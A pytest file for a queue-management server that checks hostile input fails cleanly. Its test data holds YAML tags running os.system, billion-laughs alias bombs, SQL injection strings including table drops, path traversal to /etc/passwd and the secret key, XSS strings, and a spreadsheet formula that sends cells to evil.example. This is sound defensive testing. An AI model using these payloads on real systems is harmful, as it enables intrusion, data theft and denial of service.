"""Hostile content fails cleanly: configuration files, API bodies, paths, sizes, floods,
forms without their CSRF token and Socket.IO payloads.

What "cleanly" means here: a configuration error names the key (or says the YAML is
invalid) and comes at once — no code runs, nothing hangs; a request gets a 4xx JSON
error with a code — never a 5xx — and changes nothing (every table's rows are compared
before and after); free text that is accepted is stored exactly as sent; a flood is
answered 429 with Retry-After."""

from __future__ import annotations

import copy
import csv
import hashlib
import io
import subprocess
import sys
import threading
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
import yaml
from click.testing import CliRunner
from openpyxl import load_workbook

from server import config as config_mod
from server.cli import main as cli_main
from server.dossiers.settings import parse_settings
from server.notify.config import sms_settings
from server.protocol import NS_COUNTER, NS_DISPLAY, NS_KIOSK, NS_TRACK
from server.ratelimit import RateLimiter
from server.security import settings as security_settings
from tests.staff_fixtures import csrf_of, fast_hashes, login, signed_in

pytestmark = pytest.mark.usefixtures("fast_hashes")
__all__ = ["fast_hashes"]

ROOT = Path(__file__).resolve().parent.parent
MOTCUA = Path(sys.executable).parent / "motcua"
SHIPPED = yaml.safe_load((ROOT / "config.yaml").read_text(encoding="utf-8"))
#: The sections other modules validate, filled in as a center would (all checked too).
SECTIONS = {
    "security": {"trusted_proxies": 1},
    "sms": {
        "enabled": True,
        "gateway": "http",
        "ascii_only": True,
        "max_attempts": 5,
        "backoff_seconds": 30,
        "max_age_hours": 48,
        "worker": False,
        "templates": {"ready": "Ho so {code} da co ket qua. Moi ong/ba den {place} de nhan."},
        "http": {
            "url": "https://sms.example.vn/api/send",
            "method": "POST",
            "headers": {"Authorization": "Bearer abc"},
            "body": {"to": "{phone}", "message": "{text}", "ref": "{id}"},
            "timeout": 10,
        },
    },
    "dossiers": {
        "place": "Quầy Trả kết quả",
        "contact": "Quầy hướng dẫn",
        "stale_days": 3,
        "due_soon_days": 2,
        "lookup": {"idle_seconds": 60, "phone_digits": 0},
    },
}
MAX_MESSAGE = 600


def _checked(cfg: config_mod.Config) -> config_mod.Config:
    """The sections `motcua check-config` and the server's start check beyond parse()."""
    for check in (security_settings, sms_settings, parse_settings):
        check(cfg)
    return cfg


def _validate(data: Any) -> config_mod.Config:
    return _checked(config_mod.parse(data, env={}))


def _load(path: Path) -> config_mod.Config:
    return _checked(config_mod.load(path, env={}))


def _within(seconds: float, fn, *args: Any) -> Any:
    """fn(*args) on a thread; a hang fails the test instead of freezing the suite."""
    out: dict[str, Any] = {}

    def run() -> None:
        try:
            out["value"] = fn(*args)
        except BaseException as exc:  # handed to the test thread as it is
            out["error"] = exc

    worker = threading.Thread(target=run, daemon=True)
    worker.start()
    worker.join(seconds)
    assert not worker.is_alive(), f"{getattr(fn, '__name__', fn)} still running after {seconds} s"
    if "error" in out:
        raise out["error"]
    return out["value"]


def _config_error(fn, *args: Any) -> str:
    with pytest.raises(config_mod.ConfigError) as info:
        _within(20, fn, *args)
    message = str(info.value)
    assert len(message) < MAX_MESSAGE, message[:300]
    return message


# --- configuration files --------------------------------------------------------------------
@pytest.mark.parametrize(
    "tag",
    [
        '!!python/object/apply:os.system ["touch {marker}"]',
        '!!python/object/apply:subprocess.check_call [["touch", "{marker}"]]',
        '!!python/object/new:subprocess.Popen [["touch", "{marker}"]]',
        "!!python/name:os.system",
        "!!python/module:os",
        '!!python/object:builtins.exec {{source: "open(\\"{marker}\\", \\"w\\")"}}',
    ],
)
def test_python_tags_in_config_never_run(tmp_path, tag):
    marker = tmp_path / "pwned"
    path = tmp_path / "config.yaml"
    path.write_text(f"center:\n  name: {tag.format(marker=marker)}\n", encoding="utf-8")
    assert "not valid YAML at line 2" in _config_error(_load, path)
    result = CliRunner().invoke(
        cli_main, ["check-config", "--config", str(path), "--data-dir", str(tmp_path / "d")]
    )
    assert result.exit_code == 1 and "configuration error" in result.output
    assert "Traceback" not in result.output
    assert not marker.exists()


def _bomb_yaml(levels: int = 9) -> str:
    """The billion laughs: 9 lists of 9 references, `levels` deep (9**9 strings)."""
    lines = ['  l0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for i in range(1, levels):
        lines.append(f"  l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * 9) + "]")
    return "\n".join(lines)


@pytest.mark.parametrize(
    ("where", "key"),
    [
        ("center:\n  timezone: *TOP", "center.timezone"),
        ("center:\n  public_url: *TOP", "center.public_url"),
        ("holidays: [*TOP]", "holidays[0]"),
        ("opening_hours:\n  days: *TOP", "opening_hours.days"),
        ("opening_hours:\n  sessions: [*TOP]", "opening_hours.sessions[0]"),
        ("voice:\n  template: *TOP", "voice.template"),
        ("queue:\n  recall_limit: *TOP", "queue.recall_limit"),
        ("seed:\n  services: *TOP", "seed.services[0]"),
        ("security:\n  trusted_proxies: *TOP", "security.trusted_proxies"),
    ],
)
def test_alias_bombs_in_config_fail_at_once_naming_the_key(tmp_path, where, key):
    """9**6 strings: printed in full they make a 4 MB message (what a regression to an
    unbounded !r would show here, quickly); the real 9**9 bomb runs in the test below,
    in a process of its own that is killed if it hangs."""
    # the anchors live under printer: (a section whose unknown keys are ignored)
    text = f"printer:\n  paper_mm: 80\n{_bomb_yaml(6)}\n{where.replace('TOP', 'l5')}\n"
    path = tmp_path / "config.yaml"
    path.write_text(text, encoding="utf-8")
    assert _config_error(lambda: _validate(yaml.safe_load(text))).startswith(key)
    assert _config_error(_load, path).startswith(key)


def test_the_billion_laughs_config_is_refused_by_check_config_at_once(tmp_path):
    path = tmp_path / "config.yaml"
    path.write_text(
        f"printer:\n  paper_mm: 80\n{_bomb_yaml(9)}\ncenter:\n  timezone: *l8\n"
        "holidays: [*l8]\nsecurity:\n  trusted_proxies: *l8\n",
        encoding="utf-8",
    )
    args = ["check-config", "--config", str(path), "--data-dir", str(tmp_path / "d")]
    done = subprocess.run(
        [str(MOTCUA), *args], capture_output=True, text=True, timeout=60, check=False
    )
    assert done.returncode == 1, done.stderr[-500:]
    assert done.stderr.startswith("Error: configuration error: center.timezone: expected text")
    assert len(done.stderr) < MAX_MESSAGE and "Traceback" not in done.stderr


def _bomb(levels: int) -> list[Any]:
    """A YAML alias bomb as PyYAML builds it: lists sharing themselves."""
    value: list[Any] = ["lol"] * 9
    for _ in range(levels - 1):
        value = [value] * 9
    return value


#: (section, key): the sections validated by their own modules.  A 9**5 bomb takes a
#: moment to print in full; a message that prints it is far longer than any message
#: should be — the same code would hang on a real 9**9 bomb.
SECTION_KEYS = [
    ("security", "trusted_proxies"),
    ("sms", "gateway"),
    ("sms", "backoff_seconds"),
    ("sms", "max_age_hours"),
    ("sms", "ascii_only"),
    ("sms", "templates"),
    ("dossiers", "place"),
    ("dossiers", "stale_days"),
    ("dossiers", "lookup"),
]


@pytest.mark.parametrize(("section", "key"), SECTION_KEYS)
def test_alias_bombs_in_other_sections_get_a_short_message(section, key):
    data = copy.deepcopy({**SHIPPED, **SECTIONS})
    data[section][key] = _bomb(5)
    assert _config_error(_validate, data).startswith(f"{section}.{key}")


HUGE = "x" * 5_000_000


@pytest.mark.parametrize(
    ("path", "key"),
    [
        (("center", "timezone"), "center.timezone"),
        (("center", "public_url"), "center.public_url"),
        (("opening_hours", "sessions"), "opening_hours.sessions[0]"),
        (("opening_hours", "days"), "opening_hours.days"),
        (("voice", "template"), "voice.template"),
        (("voice", "number_style"), "voice.number_style"),
        (("queue", "transfer_position"), "queue.transfer_position"),
        (("holidays",), "holidays[0]"),
        (("security", "trusted_proxies"), "security.trusted_proxies"),
    ],
)
def test_huge_strings_in_config_get_a_short_message(path, key):
    data = copy.deepcopy({**SHIPPED, **SECTIONS})
    node = data
    for part in path[:-1]:
        node = node[part]
    wrapped = path[-1] in ("sessions", "days", "holidays")
    node[path[-1]] = [[HUGE, HUGE]] if path[-1] == "sessions" else [HUGE] if wrapped else HUGE
    if path == ("voice", "template"):
        node["template"] = "{number} {counter} {" + HUGE + "}"
    assert _config_error(_validate, data).startswith(key)


@pytest.mark.parametrize(
    "text",
    [
        "center: " + "[" * 20000 + "]" * 20000,
        "center: " + "{a: " * 5000 + "1" + "}" * 5000,
        "queue:\n  recall_limit: " + "9" * 5000,
        "holidays: [!!timestamp 2026-99-99]",
        'center: {name: !!float "abc"}',
        "center: {name: !!binary '%%%'}",
        "? [a, b]\n: 1",
        "\x00\x01",
        "center:\n\tname: tab",
    ],
    ids=[
        "deep lists",
        "deep maps",
        "5000-digit int",
        "bad timestamp",
        "bad float",
        "bad binary",
        "complex key",
        "control bytes",
        "tab indent",
    ],
)
def test_malformed_yaml_is_a_config_error(tmp_path, text):
    path = tmp_path / "config.yaml"
    path.write_text(text, encoding="utf-8")
    message = _config_error(_load, path)
    assert "not valid YAML" in message or message.startswith("center.name: expected text")


WRONG = [None, True, 7, 2.5, "x", [], {}, ["x", 1], {"k": [1]}]


def _paths(node: Any, prefix: tuple = ()):
    yield prefix
    if isinstance(node, dict):
        for k, v in node.items():
            yield from _paths(v, (*prefix, k))
    elif isinstance(node, list):
        for i, v in enumerate(node):
            yield from _paths(v, (*prefix, i))


def _dotted(path: tuple) -> str:
    out = ""
    for part in path:
        out += f"[{part}]" if isinstance(part, int) else (f".{part}" if out else str(part))
    return out


def _replaced(data: Any, path: tuple, value: Any) -> Any:
    if not path:
        return value
    copied = copy.deepcopy(data)
    node = copied
    for part in path[:-1]:
        node = node[part]
    node[path[-1]] = value
    return copied


def test_wrong_types_at_every_level_name_the_key():
    base = {**SHIPPED, **SECTIONS}
    _validate(base)  # the example itself is right
    problems = []
    tried = 0
    for path in _paths(base):
        dotted = _dotted(path) or "config"
        for value in WRONG:
            tried += 1
            try:
                _validate(_replaced(base, path, value))
            except config_mod.ConfigError as exc:
                message = str(exc)
                key = message.split(": ", 1)[0]
                related = (
                    not path  # the whole file replaced: any key it names is its own
                    or key == dotted
                    or dotted.startswith((key + ".", key + "["))
                    or key.startswith((dotted + ".", dotted + "["))
                    # cross-checks name the other side: a counter's service, a duplicate
                    or "unknown service" in message
                    or "duplicate" in message
                )
                if not related or len(message) > MAX_MESSAGE:
                    problems.append(f"{dotted} = {value!r}: {message[:200]}")
            except Exception as exc:  # anything but a ConfigError is the bug looked for
                problems.append(f"{dotted} = {value!r}: {type(exc).__name__}: {exc}"[:300])
    assert tried > 1000
    assert not problems, "\n".join(problems[:40])


# --- API bodies -------------------------------------------------------------------------------
SQL = [
    "' OR '1'='1",
    "1; DROP TABLE ticket; --",
    '" OR 1=1 --',
    "DD' UNION SELECT token, phone FROM ticket --",
    "%' AND 1=0 UNION SELECT name FROM sqlite_master --",
    "1)) OR ((1=1",
]
ODD = [
    "\x00",
    "DD\x00",
    "A" * 20_000,
    "../../etc/passwd",
    "<script>alert(1)</script>",
    "{{7*7}}{0.__class__}",
    "ＤＤ",  # fullwidth letters
    "DD\u202e",  # right-to-left override
    "💥" * 500,
]
HOSTILE = SQL + ODD
BLANK = ["", " "]  # "nothing": a missing phone, an emptied list — not hostile


#: Derived data a read may fill (the reports' day cache): not something a request changes.
CACHES = {"report_day", "report_mark"}


def snapshot(db) -> dict[str, str]:
    """Every table's rows, hashed: equal snapshots mean nothing changed."""
    out = {}
    with db.read() as conn:
        tables = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type='table'")]
        for table in set(tables) - CACHES:
            rows = conn.execute(f'SELECT * FROM "{table}" ORDER BY rowid').fetchall()
            out[table] = hashlib.sha256(repr([tuple(r) for r in rows]).encode()).hexdigest()
    return out


@pytest.fixture
def hall(app, ctx, actors, issue, client):
    """A counter with a called ticket, a finished ticket, and no rate limits in the way."""
    for name in list(ctx.limits):
        ctx.limits[name] = RateLimiter(limit=10**9, per_seconds=60)
    for service in ("DD", "DD", "HT"):
        issue(service)
    staff1 = actors.h(actors.staff[1])
    done = client.post("/api/v1/counters/1/next", headers=staff1).get_json()["ticket"]
    assert client.post(f"/api/v1/tickets/{done['id']}/finish", headers=staff1).status_code == 200
    called = client.post("/api/v1/counters/1/next", headers=staff1).get_json()["ticket"]
    with ctx.db.read() as conn:
        tokens = dict(conn.execute("SELECT id, token FROM ticket").fetchall())
    return {"called": called["id"], "done_token": tokens[done["id"]], "waiting": tokens}


def _refused(resp) -> str | None:
    """Why a refusal is not clean (None when it is): 4xx, JSON, with an error code."""
    if not 400 <= resp.status_code < 500:
        return f"status {resp.status_code}"
    body = resp.get_json(silent=True)
    if not isinstance(body, dict) or not isinstance(body.get("error", {}).get("code"), str):
        return f"not a JSON error: {resp.get_data()[:120]!r}"
    return None


def _writes(actors, hall) -> list[tuple[str, str, dict[str, Any], str, str]]:
    """(method, url, valid body, field to poison, who): writes that must refuse bad input."""
    t = hall["called"]
    kiosk, staff, boss = "kiosk", "staff1", "boss"
    issue = {"service": "DD", "priority": "normal", "phone": "0903718264"}
    return [
        ("POST", "/api/v1/tickets", issue, "service", kiosk),
        ("POST", "/api/v1/tickets", issue, "priority", kiosk),
        ("POST", "/api/v1/tickets", issue, "phone", kiosk),
        ("POST", "/api/v1/counters/1/call", {"label": "1003"}, "label", staff),
        ("POST", "/api/v1/counters/1/pause", {"reason": "break"}, "reason", staff),
        ("POST", f"/api/v1/tickets/{t}/transfer", {"service": "HT"}, "service", staff),
        ("POST", f"/api/v1/tickets/{t}/transfer", {"counter": 3}, "counter", staff),
        ("POST", "/api/v1/counters/9/services", {"services": ["LD"]}, "services[0]", boss),
        ("POST", "/api/v1/counters/9/services", {"services": ["LD"]}, "services", boss),
        ("POST", "/api/v1/services/{}/close", {}, "<path>", boss),
        ("POST", "/api/v1/services/{}/open", {}, "<path>", boss),
        (
            "POST",
            "/api/v1/ratings",
            {"ticket": hall["done_token"], "level": "satisfied"},
            "ticket",
            "",
        ),
        (
            "POST",
            "/api/v1/ratings",
            {"ticket": hall["done_token"], "level": "satisfied"},
            "level",
            "",
        ),
        (
            "POST",
            "/api/v1/ratings",
            {"ticket": hall["done_token"], "level": "unsatisfied", "reason": "other"},
            "reason",
            "",
        ),
        ("POST", "/api/v1/tickets/{}/start", {}, "<path>", staff),
    ]


def _poison(body: dict[str, Any], field: str, value: Any) -> dict[str, Any]:
    if field.endswith("[0]"):
        return {**body, field[:-3]: [value]}
    return {**body, field: value}


def _who(actors, name: str) -> dict[str, str]:
    tokens = {"kiosk": actors.kiosk, "staff1": actors.staff[1], "boss": actors.supervisor}
    return actors.h(tokens[name]) if name else {}


def test_hostile_strings_in_every_write_are_refused_and_change_nothing(client, ctx, actors, hall):
    problems = []
    before = snapshot(ctx.db)
    for method, url, body, field, who in _writes(actors, hall):
        for value in HOSTILE:
            if field == "<path>":
                target, data = url.format(quote(value, safe="")), body
            else:
                target, data = url, _poison(body, field, value)
            resp = client.open(target, method=method, json=data, headers=_who(actors, who))
            why = _refused(resp)
            if why:
                problems.append(f"{method} {target[:80]} {field}={value[:40]!r}: {why}")
    after = snapshot(ctx.db)
    changed = sorted(t for t in before if before[t] != after.get(t))
    assert not problems, "\n".join(problems[:40])
    assert not changed, f"tables changed by refused requests: {changed}"


@pytest.mark.parametrize(
    "url",
    [
        "/api/v1/tickets/{}",
        "/api/v1/ratings/{}",
        "/api/v1/reports/{}",
        "/api/v1/reports/queue?from={}",
        "/api/v1/reports/queue?from=2026-11-01&to={}",
        "/api/v1/reports/satisfaction?format={}",
        "/api/v1/reports/queue?lang={}",
        "/api/v1/calls?after={}",
        "/api/v1/calls?limit={}",
        "/api/v1/calls?zone={}",
        "/api/v1/counters?zone={}",
        "/api/v1/counters/1/queue?limit={}",
        "/api/v1/devices/status?lang={}",
        "/api/v1/audio/{}.wav",
        "/api/v1/ratings/options?lang={}",
        "/api/v1/dossiers/{}",
        "/api/v1/dossiers/{}?lang=en",
        "/api/v1/dossiers/export?from={}",
        "/api/v1/dossiers/watch?stale_days={}",
    ],
)
def test_hostile_strings_in_reads_never_fail(client, ctx, actors, hall, url):
    before = snapshot(ctx.db)
    for value in [*HOSTILE, *BLANK, "²", "99999999999999999999999999", "-1", "1e9", "0x10"]:
        resp = client.get(url.format(quote(value, safe="")), headers=actors.h(actors.supervisor))
        assert resp.status_code < 500, (url, value[:40], resp.status_code)
        if resp.status_code >= 400 and resp.status_code != 404:
            assert _refused(resp) is None, (url, value[:40], resp.get_data()[:200])
    assert snapshot(ctx.db) == before


def _rate_in_words(client, ctx, ticket_id: int, words: str):
    """The citizen of a finished ticket rates it from the phone: unsatisfied, in `words`."""
    with ctx.db.read() as conn:
        token = conn.execute("SELECT token FROM ticket WHERE id = ?", (ticket_id,)).fetchone()[0]
    return client.post(
        "/api/v1/ratings",
        json={"ticket": token, "level": "unsatisfied", "reason": "other", "text": words},
    )


def test_free_text_is_stored_exactly_as_sent(client, ctx, actors, hall, issue):
    """What is accepted as data (a rating's words, dossier codes at a finish) is kept
    verbatim — quotes, NULs and emoji included — and runs as nothing."""
    staff1 = actors.h(actors.staff[1])
    texts = [v for v in HOSTILE if v.strip() and len(v) <= 500]
    for text in texts:
        issue("DD")
        current = client.post("/api/v1/counters/1/next", headers=staff1).get_json()["ticket"]
        finish = client.post(
            f"/api/v1/tickets/{current['id']}/finish", json={"dossiers": [text]}, headers=staff1
        )
        if finish.status_code == 400:  # not a dossier code (a NUL): said so, then finished
            assert finish.get_json()["error"]["code"] == "invalid_dossier_code"
            finish = client.post(f"/api/v1/tickets/{current['id']}/finish", headers=staff1)
        assert finish.status_code == 200, finish.get_json()
        rated = _rate_in_words(client, ctx, current["id"], text)
        assert rated.status_code == 201, rated.get_json()
        with ctx.db.read() as conn:
            stored = conn.execute(
                "SELECT reason_text FROM rating WHERE ticket_id = ?", (current["id"],)
            ).fetchone()[0]
        assert stored == text
    with ctx.db.read() as conn:
        assert conn.execute("SELECT count(*) FROM ticket").fetchone()[0] >= len(texts)


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        (b"[" * 100_000 + b"]" * 100_000, "application/json"),
        (b'{"service": ' + b"[" * 50_000 + b"]" * 50_000 + b"}", "application/json"),
        (b'{"service": "\xff\xfe\xfd"}', "application/json"),
        (b'{"service": "DD\\u0000"}', "application/json"),
        (b'{"service": "\\ud800", "phone": "\\udc00"}', "application/json"),
        (b'{"service": "DD", "priority": "\\ud83d"}', "application/json"),
        (b'{"service": NaN}', "application/json"),
        (b'{"service": 1e999}', "application/json"),
        (b'{"service": ' + b"9" * 5000 + b"}", "application/json"),
        (b'{"service": "DD"', "application/json"),
        (b'{"service": "DD"}', "text/plain"),
        (b"service=DD", "application/x-www-form-urlencoded"),
        (b"\x00" * 1000, "application/json"),
        (b'{"service": "DD", "service": ["x"]}', "application/json"),
    ],
    ids=[
        "deep list",
        "deep field",
        "invalid utf-8",
        "NUL",
        "lone surrogates",
        "half emoji",
        "NaN",
        "infinity",
        "5000-digit int",
        "truncated",
        "text/plain",
        "form",
        "NUL bytes",
        "duplicate key",
    ],
)
def test_malformed_json_bodies_are_clean_400s(client, ctx, actors, hall, body, content_type):
    before = snapshot(ctx.db)
    for url, who in (
        ("/api/v1/tickets", actors.kiosk),
        ("/api/v1/counters/1/call", actors.staff[1]),
        ("/api/v1/ratings", None),
        ("/api/v1/counters/1/pause", actors.staff[1]),
    ):
        headers = {"Content-Type": content_type, **(actors.h(who) if who else {})}
        resp = client.post(url, data=body, headers=headers)
        assert _refused(resp) is None, (url, resp.status_code, resp.get_data()[:200])
    assert snapshot(ctx.db) == before


def test_oversized_bodies_are_413_json(client, ctx, actors, hall):
    before = snapshot(ctx.db)
    kiosk = {**actors.h(actors.kiosk), "Content-Type": "application/json"}
    just_over = b'{"service": "DD", "x": "' + b"a" * 300_000 + b'"}'
    huge = b'{"service": "DD", "x": "' + b"a" * (21 * 1024 * 1024) + b'"}'
    for body in (just_over, huge):
        for url in ("/api/v1/tickets", "/api/v1/ratings"):
            resp = client.post(url, data=body, headers=kiosk)
            assert resp.status_code == 413, (url, len(body), resp.status_code)
            assert resp.get_json()["error"]["code"] in (
                "payload_too_large",
                "request_entity_too_large",
            )
    upload = client.post(
        "/api/v1/dossiers/imports",
        data=b"x" * (21 * 1024 * 1024),
        headers={**actors.h(actors.supervisor), "Content-Type": "multipart/form-data; boundary=b"},
    )
    assert upload.status_code == 413 and upload.get_json()["error"]["code"]
    assert snapshot(ctx.db) == before


# --- paths -----------------------------------------------------------------------------------
TRAVERSALS = [
    "/static/../server/app.py",
    "/static/../../config.yaml",
    "/static/..%2f..%2fconfig.yaml",
    "/static/%2e%2e/%2e%2e/server/app.py",
    "/static/%2e%2e%2f%2e%2e%2fserver%2fapp.py",
    "/static/..%252f..%252fserver%252fapp.py",
    "/static/....//....//server/app.py",
    "/static/..%5c..%5cserver%5capp.py",
    "/static/css/../../../app.py",
    "/static/css/..%2f..%2f..%2fapp.py",
    "/static//etc/passwd",
    "/static/%2fetc%2fpasswd",
    "/static/css%00/../../../app.py",
    "/api/v1/audio/..%2f..%2fmotcua.sqlite3.wav",
    "/api/v1/audio/..%2fmotcua.sqlite3.wav",
    "/api/v1/audio/%2e%2e%2fmotcua.sqlite3.wav",
    "/api/v1/audio/..%252fmotcua.sqlite3.wav",
    "/api/v1/audio/../motcua.sqlite3.wav",
    "/api/v1/audio/..%5cmotcua.sqlite3.wav",
    "/api/v1/audio/%2fetc%2fpasswd.wav",
    "/api/v1/audio/0123abcd%00.wav",
    "/api/v1/audio/chime.wav/../../motcua.sqlite3",
    "/api/v1/audio/..%2fsecret_key.wav",
]


@pytest.mark.parametrize("url", TRAVERSALS)
def test_path_traversal_finds_nothing(client, ctx, url):
    resp = client.get(url, follow_redirects=True)  # "//" is merged by a redirect first
    assert resp.status_code == 404, (url, resp.status_code)
    body = resp.get_data()
    secret = (ctx.data_dir / "secret_key").read_bytes().strip()
    for leaked in (b"create_app", b"SQLite format 3", b"root:x:0:0", b"center:", secret):
        assert leaked not in body
    if url.startswith("/api/"):
        assert resp.get_json()["error"]["code"]


# --- floods ----------------------------------------------------------------------------------
def _until_limited(send, most: int):
    for i in range(most):
        resp = send(i)
        if resp.status_code == 429:
            return i, resp
    raise AssertionError(f"no 429 after {most} requests")


def test_login_brute_force_is_limited(app, ctx, actors):
    c = app.test_client()
    csrf = csrf_of(c)

    def attempt(i: int):
        return c.post(
            "/login", data={"username": f"guess{i}", "password": "wrong-password", "csrf": csrf}
        )

    n, resp = _until_limited(attempt, 50)
    assert n == ctx.limits["login"].limit
    assert int(resp.headers["Retry-After"]) >= 1
    assert "Quá nhiều lần đăng nhập" in resp.get_data(as_text=True)
    # while limited, even the right password does not get in
    assert login(c, "staff1").status_code == 429
    assert c.get("/staff").status_code == 302


def test_one_account_locks_after_repeated_failures(app, ctx, actors):
    ctx.limits["login"] = RateLimiter(limit=1000, per_seconds=300)
    c = app.test_client()
    statuses = [login(c, "staff1", "not-the-password").status_code for _ in range(12)]
    assert 403 in statuses  # locked
    assert login(c, "staff1").status_code == 403  # the right password waits for the lock
    other, _ = signed_in(app, "staff2")  # others are not affected
    assert other.get("/account/password").status_code == 200


def test_public_ticket_status_scan_is_limited(client, ctx, actors, issue):
    token = issue("DD")["token"]
    n, resp = _until_limited(lambda i: client.get(f"/api/v1/tickets/scan{i:08d}"), 500)
    assert n == ctx.limits["public"].limit
    assert resp.get_json()["error"]["code"] == "rate_limited"
    assert int(resp.headers["Retry-After"]) >= 1
    # the real token is refused too (the scanner learns nothing), and so is the page
    assert client.get(f"/api/v1/tickets/{token}").status_code == 429
    page = client.get(f"/t/{token}")
    assert page.status_code == 429 and int(page.headers["Retry-After"]) >= 1


def test_public_ratings_are_limited(client, ctx, actors, hall):
    def rate(i: int):
        return client.post(
            "/api/v1/ratings", json={"ticket": f"nosuch{i:08d}", "level": "satisfied"}
        )

    ctx.limits["rating"] = RateLimiter(limit=20, per_seconds=60)
    n, resp = _until_limited(rate, 200)
    assert n == 20 and resp.get_json()["error"]["code"] == "rate_limited"
    assert int(resp.headers["Retry-After"]) >= 1


def test_dossier_lookup_is_limited(client, ctx):
    ctx.limits["lookup"] = RateLimiter(limit=30, per_seconds=60)
    n, resp = _until_limited(lambda i: client.get(f"/api/v1/dossiers/X-{i:06d}"), 200)
    assert n == 30 and int(resp.headers["Retry-After"]) >= 1


# --- forms and CSRF --------------------------------------------------------------------------
def test_login_form_needs_its_csrf_token(app, actors):
    for csrf in (None, "", "forged-token-123", csrf_of(app.test_client())):  # last: another's
        c = app.test_client()
        c.get("/login")  # a session of its own, with its own token
        data = {"username": "staff1", "password": "password123"}
        if csrf is not None:
            data["csrf"] = csrf
        resp = c.post("/login", data=data)
        assert resp.status_code == 400, csrf
        assert "Phiên đăng nhập đã hết hạn" in resp.get_data(as_text=True)
        assert c.get("/staff").status_code == 302  # not signed in


def _form_rules(app) -> list[str]:
    return sorted(
        rule.rule
        for rule in app.url_map.iter_rules()
        if "POST" in (rule.methods or set())
        and not rule.rule.startswith("/api/")
        and rule.rule not in ("/login",)
    )


def _fill(rule: str) -> str:
    return (
        rule.replace("<int:number>", "1")
        .replace("<code>", "DD")
        .replace("<username>", "staff2")
        .replace("<name>", "kiosk-1")
        .replace("<int:token_id>", "1")
        .replace("<int:notification_id>", "1")
    )


def test_every_form_refuses_a_missing_or_forged_csrf_token(app, ctx, actors):
    ctx.limits["login"] = RateLimiter(limit=1000, per_seconds=300)
    admin, real = signed_in(app, "root")
    _, other = signed_in(app, "boss")  # a valid token, of someone else's session
    rules = _form_rules(app)
    assert len(rules) >= 20 and "/admin/users" in rules
    before = snapshot(ctx.db)
    problems = []
    fields = {
        "name": "Tên mới",
        "kind": "kiosk",
        "username": "moi.nv",
        "role": "staff",
        "password": "password123",
        "label": "x",
        "status": "received",
        "reason": "x",
    }
    for rule in rules:
        url = _fill(rule)
        for csrf in (None, "", "forged-" + real[:-7], other):
            data = dict(fields)
            if csrf is not None:
                data["csrf"] = csrf
            resp = admin.post(url, data=data)
            if resp.status_code != 403:
                problems.append(f"{url} csrf={csrf!r}: {resp.status_code}")
    after = snapshot(ctx.db)
    # refused forms leave no trace but the audit of who tried
    changed = sorted(t for t in before if before[t] != after.get(t) and t != "audit")
    assert not problems, "\n".join(problems)
    assert not changed, changed
    assert admin.get("/admin").status_code == 200  # still signed in: nothing was ended


# --- Socket.IO payloads ----------------------------------------------------------------------
def test_hostile_socket_payloads_get_errors_not_crashes(app, socketio, ctx, actors, issue):
    issue("DD")
    before = snapshot(ctx.db)
    track = socketio.test_client(app, namespace=NS_TRACK)
    for payload in [
        {"token": "\ud800" * 10},
        {"token": "a" * 100_000},
        {"token": ["x"]},
        {"token": "' OR '1'='1"},
        "x",
        None,
        5,
        {"token": "x\x00" * 8},
    ]:
        ack = track.emit("follow", payload, namespace=NS_TRACK, callback=True)
        assert ack["ok"] is False and ack["error"]["code"] in ("bad_token", "unknown_ticket")
    board = socketio.test_client(app, namespace=NS_DISPLAY, auth={"token": actors.board})
    for payload in [
        {"after": 10**30},
        {"after": -1},
        {"after": "1; DROP TABLE call"},
        {"after": 1.5},
        {"after": True},
        ["x"],
        None,
    ]:
        board.get_received(NS_DISPLAY)
        board.emit("resync", payload, namespace=NS_DISPLAY)
        events = board.get_received(NS_DISPLAY)
        assert [e["name"] for e in events] == ["error"], payload
    counter = socketio.test_client(app, namespace=NS_COUNTER, auth={"token": actors.supervisor})
    for payload in [{"counter": 10**30}, {"counter": "1"}, {"counter": -1}, {"counter": None}]:
        ack = counter.emit("join", payload, namespace=NS_COUNTER, callback=True)
        assert ack["ok"] is False, payload
    agent = socketio.test_client(
        app, namespace=NS_KIOSK, auth={"token": actors.kiosk, "agent": True}
    )
    for event, payload in [
        ("heartbeat", {"printer": ["online"], "detail": "x"}),
        ("heartbeat", {"printer": {"a": 1}}),
        ("heartbeat", [1, 2]),
        ("printed", {"job_id": "\ud800", "ok": True}),
        ("printed", {"job_id": "' OR '1'='1", "ok": True}),
        ("printed", {"job_id": "x", "ok": True, "printer": ["online"]}),
    ]:
        ack = agent.emit(event, payload, namespace=NS_KIOSK, callback=True)
        assert ack["ok"] is False and ack["error"]["code"], (event, payload)
    ok = agent.emit(
        "heartbeat",
        {"printer": "paper_low", "detail": "giấy \ud800 sắp hết"},
        namespace=NS_KIOSK,
        callback=True,
    )
    assert ok == {"ok": True}
    status = app.test_client().get("/api/v1/devices/status", headers=actors.h(actors.supervisor))
    assert status.status_code == 200 and "sắp hết" in status.get_data(as_text=True)
    for bad in ({"token": "\ud800abc"}, {"token": ["x"]}, {"token": "x" * 100_000}, "x"):
        refused = socketio.test_client(app, namespace=NS_DISPLAY, auth=bad)
        assert not refused.is_connected(NS_DISPLAY)
    # an agent's connection moves its device's last_seen/printer and re-sends queued jobs
    moved = ("device", "print_job")
    after = snapshot(ctx.db)
    assert {t: v for t, v in after.items() if t not in moved} == {
        t: v for t, v in before.items() if t not in moved
    }


# --- exports ---------------------------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A2,"Xem")', "+1+1", "@SUM(A1:A9)", "-2+3"]


def test_citizens_words_stay_text_in_report_exports(client, ctx, actors, hall, issue):
    """A rating's words come from anyone's phone; in a supervisor's spreadsheet they
    must be text, not a formula that runs (or sends cells away) when the file opens."""
    staff1 = actors.h(actors.staff[1])
    for words in FORMULAS:
        ticket = issue("DD")
        called = client.post("/api/v1/counters/1/next", headers=staff1).get_json()["ticket"]
        client.post(f"/api/v1/tickets/{called['id']}/finish", headers=staff1)
        rated = _rate_in_words(client, ctx, called["id"], words)
        assert rated.status_code == 201, (ticket, rated.get_json())
    boss = actors.h(actors.supervisor)
    url = "/api/v1/reports/satisfaction?from=2026-11-25&to=2026-11-25&format="
    book = load_workbook(io.BytesIO(client.get(url + "xlsx", headers=boss).get_data()))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    shown = {c.value for c in cells}
